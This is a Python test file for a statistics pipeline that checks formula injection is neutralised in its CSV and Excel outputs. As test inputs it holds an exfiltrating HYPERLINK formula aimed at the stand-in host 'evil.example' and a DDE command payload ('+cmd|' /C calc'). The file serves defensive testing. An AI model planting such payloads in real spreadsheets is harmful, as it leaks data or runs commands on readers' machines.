"""Issue 14: text from the sources or the configuration that begins with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return never runs as a formula in a file written for people: the
quarantine CSVs, ``metrics.csv``, ``published-tables.csv`` and ``.xlsx``, and the QAF review
form. One helper (``vcc.transforms.cell_text.neutralise``) prefixes a single quote; ``recover``
gives the original back."""

from __future__ import annotations

import csv
import datetime as dt
import json
import re
import shutil
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.conftest import GOLDEN
from vcc.flows.config import load_config
from vcc.flows.qaf.form import FormCase, write_form
from vcc.flows.qaf.reading import read_form
from vcc.transforms.cell_text import neutralise, recover
from vcc.transforms.qaf import THEMES
from vcc.transforms.quarters import Quarter

REPO = Path(__file__).resolve().parents[2]
ACTIVE = ("=", "+", "-", "@", "\t", "\r")
LINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (LINK, "'" + LINK),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1,2)", "'@SUM(1,2)"),
        ("\tV1", "'\tV1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),  # already quoted: one more quote, so that recover is exact
        ("-3", "-3"),  # a number stays a number
        ("+1.5e3", "+1.5e3"),
        ("V0001", "V0001"),
        ("", ""),
    ],
)
def test_active_text_is_prefixed_with_a_quote(text, written) -> None:
    assert neutralise(text) == written
    assert recover(written) == text


@given(st.text())
def test_the_original_is_always_recoverable_and_never_active(text) -> None:
    written = neutralise(text)
    assert recover(written) == text
    if written.startswith(ACTIVE):
        float(written)  # only a number may begin so


def test_the_review_form_holds_no_live_formula_and_reads_back_the_originals(tmp_path: Path) -> None:
    path = tmp_path / "form.xlsx"
    case = FormCase(1, LINK, "@CR1", "police", "=route", False)
    write_form(path, [case], [("Sample", "S1"), ("Area", "=1+1")], "=MARKING")

    workbook = openpyxl.load_workbook(path)  # formulas as written, not their values
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert workbook["Reviews"]["B2"].value == "'" + LINK
    # filled in and read back: the case is recognised by its original identifier
    sheet = workbook["Reviews"]
    for index, _ in enumerate(THEMES):
        sheet.cell(2, 8 + 2 * index, "met")
    workbook.save(path)
    ratings = read_form(path, "S1", [case]).ratings
    assert set(ratings["victim_id"]) == {LINK}


def _rows(path):
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


@pytest.mark.flow
def test_no_file_of_a_run_holds_a_live_formula(prefect_harness, tmp_path: Path) -> None:
    from vcc.flows.run.flow import run_quarter

    data = tmp_path / "data"
    shutil.copytree(GOLDEN / "data", data)
    with (data / "police" / "referrals.csv").open("a", newline="", encoding="utf-8") as handle:
        csv.writer(handle, lineterminator="\n").writerow([LINK, "2024-05-01T10:00:00", "@SUM(1)"])
    # A district named as a formula reaches metrics.csv, changes.csv and every breakdown.
    crimes = data / "police" / "crimes.csv"
    quoted = '"' + LINK.replace('"', '""') + '"'
    crimes.write_text(crimes.read_text().replace(",Eden\n", f",{quoted}\n"), encoding="utf-8")
    districts = [LINK if name == "Eden" else name for name in load_config().districts]
    config = data / "vcc.toml"
    config.write_text(
        f"districts = {json.dumps(districts)}\n" + config.read_text()
        + '\n[report]\narea = "=1+2"\ntitle = "+cmd"\nproduced_by = "-2+3"\n',
        encoding="utf-8",
    )  # fmt: skip

    run_quarter(Quarter.parse("2024Q2"), dt.date(2024, 7, 12), config, tmp_path / "out")

    out = tmp_path / "out" / "2024Q2"
    quarantine = _rows(out / "quarantine" / "police.referrals.csv")
    assert quarantine[1][:3] == ["'" + LINK, "2024-05-01T10:00:00", "'@SUM(1)"]
    assert recover(quarantine[1][0]) == LINK
    written = sorted(path.relative_to(out).as_posix() for path in out.rglob("*.csv"))
    assert {"metrics.csv", "changes.csv", "published-tables.csv", "data-quality.csv"} <= set(
        written
    )
    for name in written:  # every CSV, whatever new ones a later change adds
        active = [cell for row in _rows(out / name) for cell in row if cell.startswith(ACTIVE)]
        assert all(_is_number(cell) for cell in active), (name, active)
    changes = [row for row in _rows(out / "changes.csv") if "'" + LINK in row]
    assert changes, "the district's rows of changes.csv"
    workbook = openpyxl.load_workbook(out / "published-tables.xlsx")
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [(c.parent.title, c.coordinate) for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(ACTIVE)]
    assert any(t.startswith("'+cmd") for t in texts)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_nothing_but_the_one_writer_writes_a_csv_for_people():
    # cell_text.csv_for_people neutralises (people_files and the release call it); a new file
    # written any other way could forget to.
    # (The synthetic sources stand for the agencies' own files, which vcc does not write for
    # people.)
    writers = {
        path.relative_to(REPO).as_posix()
        for path in (REPO / "vcc").rglob("*.py")
        if re.search(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(", path.read_text())
    }
    assert writers == {"vcc/transforms/cell_text.py", "vcc/flows/synthetic/writers.py"}


def test_the_one_writer_neutralises_changes_like_tables(tmp_path):
    import pandas as pd

    from vcc.flows.run.people_files import write_csv

    frame = pd.DataFrame({"dimension": ["district"], "group": [LINK], "change": [-0.05]})

    write_csv(frame, tmp_path / "changes.csv")

    assert _rows(tmp_path / "changes.csv") == [
        ["dimension", "group", "change"], ["district", "'" + LINK, "-0.05"]
    ]  # fmt: skip
